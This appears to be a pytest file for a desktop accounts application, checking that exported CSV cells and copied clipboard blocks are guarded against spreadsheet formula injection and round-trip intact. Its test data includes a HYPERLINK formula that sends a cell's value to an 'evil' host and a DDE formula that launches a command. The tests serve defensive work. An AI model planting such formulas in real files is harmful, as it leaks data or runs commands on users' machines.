"""A cell of an exported CSV runs as a formula where it is opened."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from abm_desktop.accounts.service import NewAccount, add_account
from abm_desktop.commands import main
from abm_desktop.exchange.files.formula_safety import guarded, guarded_cell, unguarded
from abm_desktop.workspace.opened import Workspace
from ui.accounts.block import block_text, read_block

FORMULAS = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
]


@pytest.mark.parametrize("text", [*FORMULAS, "'=1", "''=1"])
def test_what_a_spreadsheet_would_run_is_guarded_and_comes_back(text):
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", ["Acme", "'s-Hertogenbosch", "1+1", "", "a=b"])
def test_other_text_is_left_alone(text):
    assert guarded(text) == unguarded(text) == text


@pytest.mark.parametrize(("text", "written"), [("-5", "-5"), ("-1,5", "-1,5"), ("+1", "'+1")])
def test_a_negative_number_stays_a_number(text, written):
    assert guarded_cell(text) == written


NASTY = [*FORMULAS, '=HYPERLINK("http://evil/"&A1)', "=cmd|'/c calc'!A1"]
_RUNS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def test_no_cell_of_an_exported_list_runs_and_every_name_comes_back(
    workspace: Workspace, workspace_file: Path, tmp_path: Path
) -> None:
    with workspace.change("Add") as change:
        for place, text in enumerate(NASTY):
            add_account(change, NewAccount(f"{text}{place}", city=text))
    out = tmp_path / "accounts.csv"
    assert main(["export", "accounts", "-w", str(workspace_file), "--out", str(out)]) == 0
    with out.open(encoding="utf-8-sig", newline="") as stream:
        _headings, *rows = csv.reader(stream)
    assert [cell for row in rows for cell in row if cell.startswith(_RUNS)] == []
    assert len(rows) == len(NASTY)

    again = tmp_path / "again.abm"
    assert main(["new", str(again), "--name", "Again"]) == 0
    assert main(["import", "accounts", str(out), "-w", str(again)]) == 0
    back = tmp_path / "back.csv"
    assert main(["export", "accounts", "-w", str(again), "--out", str(back)]) == 0
    assert names_of(back) == names_of(out)


def names_of(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return sorted(row["Name"] for row in csv.DictReader(stream))


def test_cells_that_are_copied_into_a_spreadsheet_run_nothing_and_come_back() -> None:
    copied = block_text([[text, "-5"] for text in NASTY])
    cells = list(csv.reader(io.StringIO(copied, newline=""), dialect="excel-tab"))
    assert [row[0] for row in cells if row[0].startswith(_RUNS)] == []
    assert {row[1] for row in cells} == {"-5"}
    assert [row[0] for row in read_block(copied)] == [text.replace("\r", "\n") for text in NASTY]
